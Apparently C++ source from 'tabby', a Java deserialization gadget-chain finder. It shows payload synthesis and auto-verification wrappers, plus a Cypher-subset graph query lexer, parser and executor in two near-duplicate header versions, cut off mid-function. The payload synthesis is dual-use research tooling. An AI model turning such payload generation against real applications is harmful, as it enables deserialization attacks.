  if (frozen_ == nullptr || !alias_type_) return false;
  graph::AdjacencyView out = frozen_->out_edges_typed_view(from, *alias_type_);
  for (std::size_t i = 0; i < out.size(); ++i) {
    if (out.nbr[i] == to) return true;
  }
  return false;
}

PayloadResult synthesize_payload(const jir::Program& program, const AliasView& aliases,
                                 const GadgetChain& chain) {
  return Synthesizer(program, aliases, chain).run();
}

PayloadResult synthesize_payload(const jir::Program& program, const graph::GraphDb& cpg,
                                 const GadgetChain& chain) {
  return synthesize_payload(program, AliasView(cpg), chain);
}

AutoVerifyResult auto_verify(const jir::Program& program, const AliasView& aliases,
                             const GadgetChain& chain, const runtime::VmOptions& vm_options) {
  AutoVerifyResult result;
  result.payload = synthesize_payload(program, aliases, chain);
  jir::Hierarchy hierarchy(program);
  runtime::Interpreter vm(program, hierarchy, vm_options);
  result.execution = vm.deserialize(runtime::instantiate(result.payload.recipe));
  result.effective = result.execution.attack_succeeded(chain.sink_signature());
  return result;
}

AutoVerifyResult auto_verify(const jir::Program& program, const graph::GraphDb& cpg,
                             const GadgetChain& chain) {
  return auto_verify(program, AliasView(cpg), chain);
}

}  // namespace tabby::finder
