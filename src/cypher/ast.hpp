// Parsed representation of the Cypher subset (see docs/CYPHER.md for the
// grammar). Split out of the evaluator so the planner can inspect a Query
// without dragging in execution machinery: parse_query() -> Query -> either
// the naive evaluator or a compiled Plan, both in cypher.cpp.
#pragma once

#include <climits>
#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

#include "graph/value.hpp"
#include "util/result.hpp"

namespace tabby::cypher {

struct NodePattern {
  std::string var;
  std::string label;
  std::vector<std::pair<std::string, graph::Value>> props;
};

struct RelPattern {
  std::string var;
  std::string type;   // empty = any
  int direction = 1;  // +1 ->, -1 <-, 0 either
  int min_len = 1;
  int max_len = 1;
};

/// Cap for unbounded `*` / `*n..` ranges — bounds the traversal like the
/// finder's depth limit does.
inline constexpr int kUnboundedHops = 32;

struct Pattern {
  std::string path_var;  // "p" in MATCH p = (...)
  std::vector<NodePattern> nodes;
  std::vector<RelPattern> rels;
};

enum class CmpKind { Eq, Ne, Lt, Gt, Le, Ge, Contains, StartsWith, EndsWith };

struct Condition {
  std::string var;
  std::string key;
  CmpKind op = CmpKind::Eq;
  graph::Value literal;
};

struct ReturnItem {
  std::string var;
  std::string key;  // empty: the binding itself
};

struct Query {
  Pattern pattern;
  std::vector<Condition> where;
  std::vector<ReturnItem> items;
  std::size_t limit = SIZE_MAX;
};

/// Lex + parse one query. Malformed input reports Error with a byte offset.
util::Result<Query> parse_query(std::string_view text);

}  // namespace tabby::cypher
