// A Cypher-subset query language over the embedded graph store — the
// interface the paper's users get from Neo4j ("researchers can re-use the
// graph database query syntax for vulnerability identification", §II-B).
//
// Supported surface:
//   MATCH [p =] (a:Label {KEY: literal})-[r:TYPE*min..max]->(b:Label) ...
//   WHERE a.KEY = literal AND b.KEY <> literal AND a.KEY CONTAINS "text" ...
//   RETURN a, b.KEY, p [LIMIT n]
//
// Relationship patterns support both directions (-[..]->, <-[..]-, -[..]-),
// optional types, and variable-length ranges (*, *n, *n..m, *..m). Node
// inline property maps use index-accelerated lookup when possible.
#pragma once

#include <string>
#include <variant>
#include <vector>

#include "graph/frozen.hpp"
#include "graph/graph.hpp"
#include "graph/traversal.hpp"
#include "util/result.hpp"

namespace tabby::util {
class Executor;
class MemoryBudget;
}  // namespace tabby::util

namespace tabby::cypher {

/// One result cell: a node, a relationship, a whole path, or a scalar
/// property value.
struct Binding {
  enum class Kind { Node, Relationship, Path, Scalar };
  Kind kind = Kind::Scalar;
  graph::NodeId node = graph::kNoNode;
  graph::EdgeId edge = graph::kNoEdge;
  graph::Path path;
  graph::Value scalar;

  static Binding of_node(graph::NodeId id) {
    Binding b;
    b.kind = Kind::Node;
    b.node = id;
    return b;
  }
  static Binding of_path(graph::Path p) {
    Binding b;
    b.kind = Kind::Path;
    b.path = std::move(p);
    return b;
  }
  static Binding of_scalar(graph::Value v) {
    Binding b;
    b.kind = Kind::Scalar;
    b.scalar = std::move(v);
    return b;
  }
};

struct QueryResult {
  std::vector<std::string> columns;
  std::vector<std::vector<Binding>> rows;
  /// The chosen plan, rendered (`tabby query --explain`). Always filled:
  /// naive/disabled runs describe why planning declined.
  std::string plan;

  /// Human-readable rendering (nodes print their NAME/SIGNATURE property).
  std::string to_string(const graph::GraphDb& db) const;
  std::string to_string(const graph::FrozenGraph& db) const;
};

/// Knobs for one evaluation. The planner contract is strict: whatever the
/// settings, rows (content and order) are byte-identical to the naive
/// evaluator — planning only prunes provably-empty subtrees, so use_planner
/// is a performance escape hatch, never a semantics switch.
struct QueryOptions {
  /// Compile a Plan (cost-based start/anchor selection, backward
  /// reachability filters, predicate pushdown) before executing; false is
  /// the `--no-plan` escape hatch. A `cypher.plan` failpoint degrades a
  /// planner fault to naive evaluation rather than an error.
  bool use_planner = true;
  /// Parallelizes the backward prepass chunks; results are identical at any
  /// concurrency (commutative bitset merges). Null = serial.
  util::Executor* executor = nullptr;
  /// Meters the plan's filter bitsets and accumulated result rows (ledger
  /// only — queries never prune on pressure, that would change answers).
  util::MemoryBudget* memory = nullptr;
};

/// Parses and executes a query. Malformed queries report Error with a
/// byte offset; execution itself cannot fail.
util::Result<QueryResult> run_query(const graph::GraphDb& db, std::string_view query);
util::Result<QueryResult> run_query(const graph::GraphDb& db, std::string_view query,
                                    const QueryOptions& options);

/// Frozen-CSR evaluation: identical semantics and row order. Typed patterns
/// scan sorted edge segments; untyped patterns replay insertion order, so
/// every query prints byte-identically against either representation of the
/// same graph.
util::Result<QueryResult> run_query(const graph::FrozenGraph& db, std::string_view query);
util::Result<QueryResult> run_query(const graph::FrozenGraph& db, std::string_view query,
                                    const QueryOptions& options);

}  // namespace tabby::cypher
