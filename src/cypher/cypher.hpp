// A Cypher-subset query language over the embedded graph store — the
// interface the paper's users get from Neo4j ("researchers can re-use the
// graph database query syntax for vulnerability identification", §II-B).
//
// Supported surface:
//   MATCH [p =] (a:Label {KEY: literal})-[r:TYPE*min..max]->(b:Label) ...
//   WHERE a.KEY = literal AND b.KEY <> literal AND a.KEY CONTAINS "text" ...
//   RETURN a, b.KEY, p [LIMIT n]
//
// Relationship patterns support both directions (-[..]->, <-[..]-, -[..]-),
// optional types, and variable-length ranges (*, *n, *n..m, *..m). Node
// inline property maps use index-accelerated lookup when possible.
#pragma once

#include <string>
#include <variant>
#include <vector>

#include "graph/frozen.hpp"
#include "graph/graph.hpp"
#include "graph/traversal.hpp"
#include "util/result.hpp"

namespace tabby::cypher {

/// One result cell: a node, a relationship, a whole path, or a scalar
/// property value.
struct Binding {
  enum class Kind { Node, Relationship, Path, Scalar };
  Kind kind = Kind::Scalar;
  graph::NodeId node = graph::kNoNode;
  graph::EdgeId edge = graph::kNoEdge;
  graph::Path path;
  graph::Value scalar;

  static Binding of_node(graph::NodeId id) {
    Binding b;
    b.kind = Kind::Node;
    b.node = id;
    return b;
  }
  static Binding of_path(graph::Path p) {
    Binding b;
    b.kind = Kind::Path;
    b.path = std::move(p);
    return b;
  }
  static Binding of_scalar(graph::Value v) {
    Binding b;
    b.kind = Kind::Scalar;
    b.scalar = std::move(v);
    return b;
  }
};

struct QueryResult {
  std::vector<std::string> columns;
  std::vector<std::vector<Binding>> rows;

  /// Human-readable rendering (nodes print their NAME/SIGNATURE property).
  std::string to_string(const graph::GraphDb& db) const;
  std::string to_string(const graph::FrozenGraph& db) const;
};

/// Parses and executes a query. Malformed queries report Error with a
/// byte offset; execution itself cannot fail.
util::Result<QueryResult> run_query(const graph::GraphDb& db, std::string_view query);

/// Frozen-CSR evaluation: identical semantics and row order. Typed patterns
/// scan sorted edge segments; untyped patterns replay insertion order, so
/// every query prints byte-identically against either representation of the
/// same graph.
util::Result<QueryResult> run_query(const graph::FrozenGraph& db, std::string_view query);

}  // namespace tabby::cypher
