#include "cypher/cypher.hpp"

#include <algorithm>
#include <cctype>
#include <map>
#include <optional>

#include "util/failpoint.hpp"
#include "util/strings.hpp"

namespace tabby::cypher {

namespace {

using graph::Edge;
using graph::EdgeId;
using graph::GraphDb;
using graph::NodeId;
using graph::Value;
using util::Error;
using util::Result;

// --- AST ---------------------------------------------------------------------

struct NodePattern {
  std::string var;
  std::string label;
  std::vector<std::pair<std::string, Value>> props;
};

struct RelPattern {
  std::string var;
  std::string type;          // empty = any
  int direction = 1;         // +1 ->, -1 <-, 0 either
  int min_len = 1;
  int max_len = 1;
};

inline constexpr int kUnboundedHops = 32;

struct Pattern {
  std::string path_var;  // "p" in MATCH p = (...)
  std::vector<NodePattern> nodes;
  std::vector<RelPattern> rels;
};

enum class CmpKind { Eq, Ne, Lt, Gt, Le, Ge, Contains, StartsWith, EndsWith };

struct Condition {
  std::string var;
  std::string key;
  CmpKind op = CmpKind::Eq;
  Value literal;
};

struct ReturnItem {
  std::string var;
  std::string key;  // empty: the binding itself
};

struct Query {
  Pattern pattern;
  std::vector<Condition> where;
  std::vector<ReturnItem> items;
  std::size_t limit = SIZE_MAX;
};

// --- Lexer ---------------------------------------------------------------------

enum class TokKind { Word, Int, Str, Sym, End };

struct Token {
  TokKind kind = TokKind::End;
  std::string text;
  std::int64_t int_value = 0;
  std::size_t pos = 0;
};

class Lexer {
 public:
  explicit Lexer(std::string_view text) : text_(text) {}

  Result<std::vector<Token>> lex() {
    std::vector<Token> out;
    while (true) {
      while (pos_ < text_.size() && std::isspace(static_cast<unsigned char>(text_[pos_]))) ++pos_;
      if (pos_ >= text_.size()) break;
      char c = text_[pos_];
      if (std::isalpha(static_cast<unsigned char>(c)) || c == '_') {
        std::size_t start = pos_;
        while (pos_ < text_.size() && (std::isalnum(static_cast<unsigned char>(text_[pos_])) ||
                                       text_[pos_] == '_')) {
          ++pos_;
        }
        out.push_back(Token{TokKind::Word, std::string(text_.substr(start, pos_ - start)), 0,
                            start});
      } else if (std::isdigit(static_cast<unsigned char>(c)) ||
                 (c == '-' && pos_ + 1 < text_.size() &&
                  std::isdigit(static_cast<unsigned char>(text_[pos_ + 1])) && numeric_context(out))) {
        std::size_t start = pos_;
        if (c == '-') ++pos_;
        while (pos_ < text_.size() && std::isdigit(static_cast<unsigned char>(text_[pos_]))) ++pos_;
        std::string digits(text_.substr(start, pos_ - start));
        out.push_back(Token{TokKind::Int, digits, std::strtoll(digits.c_str(), nullptr, 10),
                            start});
      } else if (c == '"' || c == '\'') {
        char quote = c;
        std::size_t start = ++pos_;
        std::string value;
        while (pos_ < text_.size() && text_[pos_] != quote) {
          char ch = text_[pos_++];
          if (ch == '\\' && pos_ < text_.size()) ch = text_[pos_++];
          value.push_back(ch);
        }
        if (pos_ >= text_.size()) return Error{"unterminated string", start};
        ++pos_;
        out.push_back(Token{TokKind::Str, std::move(value), 0, start});
      } else {
        static constexpr std::string_view kTwoChar[] = {"->", "<-", "<>", "<=", ">=", ".."};
        bool matched = false;
        for (std::string_view two : kTwoChar) {
          if (text_.substr(pos_, 2) == two) {
            out.push_back(Token{TokKind::Sym, std::string(two), 0, pos_});
            pos_ += 2;
            matched = true;
            break;
          }
        }
        if (!matched) {
          out.push_back(Token{TokKind::Sym, std::string(1, c), 0, pos_});
          ++pos_;
        }
      }
    }
    out.push_back(Token{TokKind::End, "", 0, text_.size()});
    return out;
  }

 private:
  /// A '-' starts a negative number only after '=' ':' ',' '(' comparison
  /// symbols — otherwise it is a relationship dash.
  bool numeric_context(const std::vector<Token>& out) const {
    if (out.empty()) return false;
    const Token& prev = out.back();
    if (prev.kind != TokKind::Sym) return false;
    return prev.text == "=" || prev.text == ":" || prev.text == "," || prev.text == "(" ||
           prev.text == "<" || prev.text == ">" || prev.text == "<=" || prev.text == ">=" ||
           prev.text == "<>";
  }

  std::string_view text_;
  std::size_t pos_ = 0;
};

bool word_is(const Token& tok, std::string_view keyword) {
  if (tok.kind != TokKind::Word || tok.text.size() != keyword.size()) return false;
  for (std::size_t i = 0; i < keyword.size(); ++i) {
    if (std::toupper(static_cast<unsigned char>(tok.text[i])) != keyword[i]) return false;
  }
  return true;
}

// --- Parser ---------------------------------------------------------------------

class Parser {
 public:
  explicit Parser(std::vector<Token> tokens) : tokens_(std::move(tokens)) {}

  Result<Query> parse() {
    Query query;
    if (!match_keyword("MATCH")) return err("expected MATCH");
    auto pattern = parse_pattern();
    if (!pattern.ok()) return pattern.error();
    query.pattern = std::move(pattern.value());

    if (match_keyword("WHERE")) {
      do {
        auto condition = parse_condition();
        if (!condition.ok()) return condition.error();
        query.where.push_back(std::move(condition.value()));
      } while (match_keyword("AND"));
    }

    if (!match_keyword("RETURN")) return err("expected RETURN");
    do {
      auto item = parse_return_item();
      if (!item.ok()) return item.error();
      query.items.push_back(std::move(item.value()));
    } while (match_sym(","));

    if (match_keyword("LIMIT")) {
      if (peek().kind != TokKind::Int) return err("expected LIMIT count");
      query.limit = static_cast<std::size_t>(advance().int_value);
    }
    if (peek().kind != TokKind::End) return err("trailing input after query");
    return query;
  }

 private:
  const Token& peek(std::size_t ahead = 0) const {
    std::size_t i = pos_ + ahead;
    return i < tokens_.size() ? tokens_[i] : tokens_.back();
  }
  const Token& advance() { return tokens_[pos_ < tokens_.size() - 1 ? pos_++ : pos_]; }
  Error err(std::string message) const { return Error{std::move(message), peek().pos}; }

  bool match_sym(std::string_view sym) {
    if (peek().kind == TokKind::Sym && peek().text == sym) {
      advance();
      return true;
    }
    return false;
  }
  bool match_keyword(std::string_view keyword) {
    if (word_is(peek(), keyword)) {
      advance();
      return true;
    }
    return false;
  }

  Result<Value> parse_literal() {
    if (peek().kind == TokKind::Int) return Value{advance().int_value};
    if (peek().kind == TokKind::Str) return Value{advance().text};
    if (match_keyword("TRUE")) return Value{true};
    if (match_keyword("FALSE")) return Value{false};
    if (match_keyword("NULL")) return Value{};
    return err("expected literal");
  }

  Result<NodePattern> parse_node() {
    NodePattern node;
    if (!match_sym("(")) return err("expected '('");
    if (peek().kind == TokKind::Word && !word_is(peek(), "WHERE")) node.var = advance().text;
    if (match_sym(":")) {
      if (peek().kind != TokKind::Word) return err("expected node label");
      node.label = advance().text;
    }
    if (match_sym("{")) {
      do {
        if (peek().kind != TokKind::Word) return err("expected property key");
        std::string key = advance().text;
        if (!match_sym(":")) return err("expected ':' in property map");
        auto value = parse_literal();
        if (!value.ok()) return value.error();
        node.props.emplace_back(std::move(key), std::move(value.value()));
      } while (match_sym(","));
      if (!match_sym("}")) return err("expected '}'");
    }
    if (!match_sym(")")) return err("expected ')'");
    return node;
  }

  Result<RelPattern> parse_rel() {
    RelPattern rel;
    bool from_left = false;
    if (match_sym("<-")) {
      rel.direction = -1;
      from_left = true;
    } else if (!match_sym("-")) {
      return err("expected relationship");
    }
    if (match_sym("[")) {
      if (peek().kind == TokKind::Word) rel.var = advance().text;
      if (match_sym(":")) {
        if (peek().kind != TokKind::Word) return err("expected relationship type");
        rel.type = advance().text;
      }
      if (match_sym("*")) {
        rel.min_len = 1;
        rel.max_len = kUnboundedHops;
        if (peek().kind == TokKind::Int) {
          rel.min_len = static_cast<int>(advance().int_value);
          rel.max_len = rel.min_len;
        }
        if (match_sym("..")) {
          rel.max_len = kUnboundedHops;
          if (peek().kind == TokKind::Int) rel.max_len = static_cast<int>(advance().int_value);
        }
      }
      if (!match_sym("]")) return err("expected ']'");
    }
    if (match_sym("->")) {
      if (from_left) return err("relationship cannot point both ways");
      rel.direction = 1;
    } else if (match_sym("-")) {
      if (!from_left) rel.direction = 0;
    } else {
      return err("expected '->' or '-'");
    }
    if (rel.min_len < 0 || rel.max_len < rel.min_len) return err("bad hop range");
    return rel;
  }

  Result<Pattern> parse_pattern() {
    Pattern pattern;
    // Optional "p =" path binding.
    if (peek().kind == TokKind::Word && peek(1).kind == TokKind::Sym && peek(1).text == "=") {
      pattern.path_var = advance().text;
      advance();  // '='
    }
    auto first = parse_node();
    if (!first.ok()) return first.error();
    pattern.nodes.push_back(std::move(first.value()));
    while (peek().kind == TokKind::Sym && (peek().text == "-" || peek().text == "<-")) {
      auto rel = parse_rel();
      if (!rel.ok()) return rel.error();
      auto node = parse_node();
      if (!node.ok()) return node.error();
      pattern.rels.push_back(std::move(rel.value()));
      pattern.nodes.push_back(std::move(node.value()));
    }
    return pattern;
  }

  Result<Condition> parse_condition() {
    Condition condition;
    if (peek().kind != TokKind::Word) return err("expected variable in WHERE");
    condition.var = advance().text;
    if (!match_sym(".")) return err("expected '.' after variable");
    if (peek().kind != TokKind::Word) return err("expected property key");
    condition.key = advance().text;

    if (match_sym("=")) {
      condition.op = CmpKind::Eq;
    } else if (match_sym("<>")) {
      condition.op = CmpKind::Ne;
    } else if (match_sym("<=")) {
      condition.op = CmpKind::Le;
    } else if (match_sym(">=")) {
      condition.op = CmpKind::Ge;
    } else if (match_sym("<")) {
      condition.op = CmpKind::Lt;
    } else if (match_sym(">")) {
      condition.op = CmpKind::Gt;
    } else if (match_keyword("CONTAINS")) {
      condition.op = CmpKind::Contains;
    } else if (match_keyword("STARTS")) {
      if (!match_keyword("WITH")) return err("expected WITH after STARTS");
      condition.op = CmpKind::StartsWith;
    } else if (match_keyword("ENDS")) {
      if (!match_keyword("WITH")) return err("expected WITH after ENDS");
      condition.op = CmpKind::EndsWith;
    } else {
      return err("expected comparison operator");
    }
    auto literal = parse_literal();
    if (!literal.ok()) return literal.error();
    condition.literal = std::move(literal.value());
    return condition;
  }

  Result<ReturnItem> parse_return_item() {
    ReturnItem item;
    if (peek().kind != TokKind::Word) return err("expected RETURN item");
    item.var = advance().text;
    if (match_sym(".")) {
      if (peek().kind != TokKind::Word) return err("expected property key");
      item.key = advance().text;
    }
    return item;
  }

  std::vector<Token> tokens_;
  std::size_t pos_ = 0;
};

// --- Representation adapters -------------------------------------------------
// The executor below is generic over the graph representation (mutable
// GraphDb or frozen CSR). These overloads are the full surface it needs;
// each pair must agree on both result *and* iteration order — the frozen
// side enumerates ascending dense ids / ascending edge indexes, which is
// exactly the live-element order the GraphDb side iterates.

std::string_view db_label(const GraphDb& db, NodeId id) { return db.node(id).label; }
std::string_view db_label(const graph::FrozenGraph& db, NodeId id) { return db.label(id); }

std::optional<Value> db_prop(const GraphDb& db, NodeId id, const std::string& key) {
  const Value* v = db.node(id).prop(key);
  if (v == nullptr) return std::nullopt;
  return *v;
}
std::optional<Value> db_prop(const graph::FrozenGraph& db, NodeId id, const std::string& key) {
  return db.node_prop(id, key);
}

std::string db_edge_type(const GraphDb& db, EdgeId id) { return db.edge(id).type; }
std::string db_edge_type(const graph::FrozenGraph& db, EdgeId id) {
  return std::string(db.edge_type_name(db.edge_type(id)));
}

template <typename Fn>
void db_scan_nodes(const GraphDb& db, Fn&& fn) {
  db.for_each_node([&](const graph::Node& node) { fn(node.id); });
}
template <typename Fn>
void db_scan_nodes(const graph::FrozenGraph& db, Fn&& fn) {
  for (NodeId id = 0; id < db.node_count(); ++id) fn(id);
}

/// Visits out-edges in insertion order, filtered to `type` when non-empty;
/// fn(edge, neighbor).
template <typename Fn>
void db_for_each_out(const GraphDb& db, NodeId n, const std::string& type, Fn&& fn) {
  for (EdgeId eid : db.out_edges(n)) {
    const Edge& e = db.edge(eid);
    if (!type.empty() && e.type != type) continue;
    fn(eid, e.to);
  }
}
template <typename Fn>
void db_for_each_out(const graph::FrozenGraph& db, NodeId n, const std::string& type, Fn&& fn) {
  if (type.empty()) {
    db.for_each_out_ordered(n, [&](std::uint32_t e, std::uint32_t nbr) {
      fn(EdgeId{e}, NodeId{nbr});
    });
    return;
  }
  auto t = db.edge_type_id(type);
  if (!t.has_value()) return;
  graph::AdjacencyView adj = db.out_edges_typed_view(n, *t);
  for (std::size_t k = 0; k < adj.size(); ++k) fn(EdgeId{adj.edge[k]}, NodeId{adj.nbr[k]});
}

template <typename Fn>
void db_for_each_in(const GraphDb& db, NodeId n, const std::string& type, Fn&& fn) {
  for (EdgeId eid : db.in_edges(n)) {
    const Edge& e = db.edge(eid);
    if (!type.empty() && e.type != type) continue;
    fn(eid, e.from);
  }
}
template <typename Fn>
void db_for_each_in(const graph::FrozenGraph& db, NodeId n, const std::string& type, Fn&& fn) {
  if (type.empty()) {
    db.for_each_in_ordered(n, [&](std::uint32_t e, std::uint32_t nbr) {
      fn(EdgeId{e}, NodeId{nbr});
    });
    return;
  }
  auto t = db.edge_type_id(type);
  if (!t.has_value()) return;
  graph::AdjacencyView adj = db.in_edges_typed_view(n, *t);
  for (std::size_t k = 0; k < adj.size(); ++k) fn(EdgeId{adj.edge[k]}, NodeId{adj.nbr[k]});
}

// --- Executor ----------------------------------------------------------------

template <typename DB>
bool node_satisfies(const DB& db, NodeId id, const NodePattern& pattern) {
  if (!pattern.label.empty() && db_label(db, id) != pattern.label) return false;
  for (const auto& [key, value] : pattern.props) {
    std::optional<Value> actual = db_prop(db, id, key);
    if (!actual.has_value() || !graph::value_equals(*actual, value)) return false;
  }
  return true;
}

template <typename DB>
std::vector<NodeId> candidate_nodes(const DB& db, const NodePattern& pattern) {
  if (!pattern.label.empty() && !pattern.props.empty()) {
    std::vector<NodeId> hits = db.find_nodes(pattern.label, pattern.props[0].first,
                                             pattern.props[0].second);
    std::vector<NodeId> out;
    for (NodeId id : hits) {
      if (node_satisfies(db, id, pattern)) out.push_back(id);
    }
    return out;
  }
  std::vector<NodeId> out;
  if (!pattern.label.empty()) {
    for (NodeId id : db.nodes_with_label(pattern.label)) {
      if (node_satisfies(db, id, pattern)) out.push_back(id);
    }
    return out;
  }
  db_scan_nodes(db, [&](NodeId id) {
    if (node_satisfies(db, id, pattern)) out.push_back(id);
  });
  return out;
}

bool compare_values(const Value& lhs, CmpKind op, const Value& rhs) {
  const auto* ls = std::get_if<std::string>(&lhs);
  const auto* rs = std::get_if<std::string>(&rhs);
  switch (op) {
    case CmpKind::Eq:
      return graph::value_equals(lhs, rhs);
    case CmpKind::Ne:
      return !graph::value_equals(lhs, rhs);
    case CmpKind::Contains:
      return ls != nullptr && rs != nullptr && util::contains(*ls, *rs);
    case CmpKind::StartsWith:
      return ls != nullptr && rs != nullptr && util::starts_with(*ls, *rs);
    case CmpKind::EndsWith:
      return ls != nullptr && rs != nullptr && util::ends_with(*ls, *rs);
    default:
      break;
  }
  const auto* li = std::get_if<std::int64_t>(&lhs);
  const auto* ri = std::get_if<std::int64_t>(&rhs);
  if (li != nullptr && ri != nullptr) {
    switch (op) {
      case CmpKind::Lt: return *li < *ri;
      case CmpKind::Gt: return *li > *ri;
      case CmpKind::Le: return *li <= *ri;
      case CmpKind::Ge: return *li >= *ri;
      default: return false;
    }
  }
  if (ls != nullptr && rs != nullptr) {
    int c = ls->compare(*rs);
    switch (op) {
      case CmpKind::Lt: return c < 0;
      case CmpKind::Gt: return c > 0;
      case CmpKind::Le: return c <= 0;
      case CmpKind::Ge: return c >= 0;
      default: return false;
    }
  }
  return false;
}

template <typename DB>
class Executor {
 public:
  Executor(const DB& db, const Query& query) : db_(db), query_(query) {}

  QueryResult run() {
    QueryResult result;
    for (const ReturnItem& item : query_.items) {
      result.columns.push_back(item.key.empty() ? item.var : item.var + "." + item.key);
    }
    for (NodeId start : candidate_nodes(db_, query_.pattern.nodes[0])) {
      graph::Path path;
      path.nodes.push_back(start);
      extend(0, path, result);
      if (result.rows.size() >= query_.limit) break;
    }
    return result;
  }

 private:
  /// Recursively match relationship `rel_index` onwards; `path` covers node
  /// patterns [0, rel_index].
  void extend(std::size_t rel_index, graph::Path& path, QueryResult& result) {
    if (result.rows.size() >= query_.limit) return;
    if (rel_index == query_.pattern.rels.size()) {
      emit(path, result);
      return;
    }
    const RelPattern& rel = query_.pattern.rels[rel_index];
    const NodePattern& target = query_.pattern.nodes[rel_index + 1];
    expand_hops(rel, target, path, path.end(), 0, rel_index, result);
  }

  void expand_hops(const RelPattern& rel, const NodePattern& target, graph::Path& path,
                   NodeId frontier, int hops, std::size_t rel_index, QueryResult& result) {
    if (result.rows.size() >= query_.limit) return;
    if (hops >= rel.min_len && node_satisfies(db_, frontier, target)) {
      extend(rel_index + 1, path, result);
    }
    if (hops >= rel.max_len) return;

    auto try_edge = [&](EdgeId eid, NodeId next) {
      if (std::find(path.edges.begin(), path.edges.end(), eid) != path.edges.end()) return;
      path.edges.push_back(eid);
      path.nodes.push_back(next);
      expand_hops(rel, target, path, next, hops + 1, rel_index, result);
      path.edges.pop_back();
      path.nodes.pop_back();
    };

    if (rel.direction >= 0) db_for_each_out(db_, frontier, rel.type, try_edge);
    if (rel.direction <= 0) db_for_each_in(db_, frontier, rel.type, try_edge);
  }

  /// Bind pattern variables to concrete path positions. Variable-length
  /// segments make node-pattern positions non-trivial: recompute by walking
  /// the rels and counting realised hops. Simpler and robust: re-derive the
  /// binding map during emission by matching pattern hops against the path.
  void emit(const graph::Path& path, QueryResult& result) {
    // Anchored node positions: nodes[0] is path.nodes[0]; each subsequent
    // anchored node is located after the realised hops of its segment. We
    // recover segment lengths by re-walking: since expand_hops only calls
    // extend() when the target matches, the path is consistent; we track
    // anchor positions in a side array built during matching instead.
    //
    // To avoid threading state, re-match greedily: anchors are the only
    // positions where the next rel segment starts. We reconstruct them from
    // the stored lengths in anchors_ (maintained by extend/emit callers).
    //
    // Implementation note: anchors are simply the frontier positions at each
    // extend() call; capture them here from path length bookkeeping.
    std::map<std::string, Binding> bindings;
    // nodes[0] anchor is always position 0; for the remaining anchors we use
    // the positions recorded in anchor_stack_.
    bindings_from_path(path, bindings);

    if (!query_.pattern.path_var.empty()) {
      bindings[query_.pattern.path_var] = Binding::of_path(path);
    }
    for (const Condition& condition : query_.where) {
      auto it = bindings.find(condition.var);
      if (it == bindings.end() || it->second.kind != Binding::Kind::Node) return;
      std::optional<Value> actual = db_prop(db_, it->second.node, condition.key);
      if (!actual.has_value() || !compare_values(*actual, condition.op, condition.literal)) {
        return;
      }
    }
    std::vector<Binding> row;
    for (const ReturnItem& item : query_.items) {
      auto it = bindings.find(item.var);
      if (it == bindings.end()) {
        row.push_back(Binding::of_scalar(Value{}));
        continue;
      }
      if (item.key.empty()) {
        row.push_back(it->second);
      } else if (it->second.kind == Binding::Kind::Node) {
        std::optional<Value> v = db_prop(db_, it->second.node, item.key);
        row.push_back(Binding::of_scalar(v.has_value() ? *v : Value{}));
      } else {
        row.push_back(Binding::of_scalar(Value{}));
      }
    }
    result.rows.push_back(std::move(row));
  }

  /// First and last pattern nodes always anchor the path ends; intermediate
  /// anchored vars of fixed-length segments are resolved positionally. For
  /// variable-length middles, intermediate vars bind to the segment end
  /// (matching Cypher, where inner var-length nodes are not addressable).
  void bindings_from_path(const graph::Path& path, std::map<std::string, Binding>& bindings) {
    const auto& nodes = query_.pattern.nodes;
    const auto& rels = query_.pattern.rels;
    if (!nodes.front().var.empty()) {
      bindings[nodes.front().var] = Binding::of_node(path.nodes.front());
    }
    if (nodes.size() == 1) return;
    // Walk forward assigning anchors: fixed-length segments advance exactly;
    // a variable-length segment consumes "the rest minus what later fixed
    // segments need" greedily. With at most one variable-length segment per
    // query (the common case for gadget hunting) this is exact.
    std::size_t fixed_after = 0;
    std::size_t var_segments = 0;
    for (const RelPattern& rel : rels) {
      if (rel.min_len == rel.max_len) {
        fixed_after += static_cast<std::size_t>(rel.min_len);
      } else {
        ++var_segments;
      }
    }
    std::size_t total_hops = path.edges.size();
    std::size_t variable_budget = total_hops - std::min(total_hops, fixed_after);
    std::size_t position = 0;
    for (std::size_t i = 0; i < rels.size(); ++i) {
      std::size_t hops = rels[i].min_len == rels[i].max_len
                             ? static_cast<std::size_t>(rels[i].min_len)
                             : (var_segments == 1 ? variable_budget : 0);
      position += hops;
      if (position >= path.nodes.size()) position = path.nodes.size() - 1;
      if (!nodes[i + 1].var.empty()) {
        bindings[nodes[i + 1].var] = Binding::of_node(path.nodes[position]);
      }
    }
    // The final pattern node always anchors the path end.
    if (!nodes.back().var.empty()) {
      bindings[nodes.back().var] = Binding::of_node(path.nodes.back());
    }
  }

  const DB& db_;
  const Query& query_;
};

template <typename DB>
std::string render_node(const DB& db, NodeId id) {
  auto text_prop = [&](const char* key) -> std::string {
    std::optional<Value> v = db_prop(db, id, key);
    const std::string* s = v.has_value() ? std::get_if<std::string>(&v.value()) : nullptr;
    return s != nullptr ? *s : std::string{};
  };
  std::string best = text_prop("SIGNATURE");
  if (best.empty()) best = text_prop("NAME");
  if (best.empty()) best = "#" + std::to_string(id);
  return "(" + std::string(db_label(db, id)) + " " + best + ")";
}

template <typename DB>
std::string result_to_string(const QueryResult& result, const DB& db) {
  std::string out = util::join(result.columns, " | ") + "\n";
  for (const auto& row : result.rows) {
    std::vector<std::string> cells;
    for (const Binding& binding : row) {
      switch (binding.kind) {
        case Binding::Kind::Node:
          cells.push_back(render_node(db, binding.node));
          break;
        case Binding::Kind::Relationship:
          cells.push_back("[" + db_edge_type(db, binding.edge) + "]");
          break;
        case Binding::Kind::Path: {
          std::string text;
          for (std::size_t i = 0; i < binding.path.nodes.size(); ++i) {
            if (i != 0) text += " -> ";
            text += render_node(db, binding.path.nodes[i]);
          }
          cells.push_back(std::move(text));
          break;
        }
        case Binding::Kind::Scalar:
          cells.push_back(graph::to_string(binding.scalar));
          break;
      }
    }
    out += util::join(cells, " | ") + "\n";
  }
  return out;
}

template <typename DB>
util::Result<QueryResult> run_query_impl(const DB& db, std::string_view query_text) {
  // Fault seam for the chaos harness: evaluation faults surface as the
  // structured error a malformed plan would produce, never as a crash.
  if (util::failpoint::poll("cypher.eval")) {
    return util::Error{"failpoint: injected query evaluation failure"};
  }
  auto tokens = Lexer(query_text).lex();
  if (!tokens.ok()) return tokens.error();
  auto query = Parser(std::move(tokens.value())).parse();
  if (!query.ok()) return query.error();
  return Executor<DB>(db, query.value()).run();
}

}  // namespace

std::string QueryResult::to_string(const GraphDb& db) const {
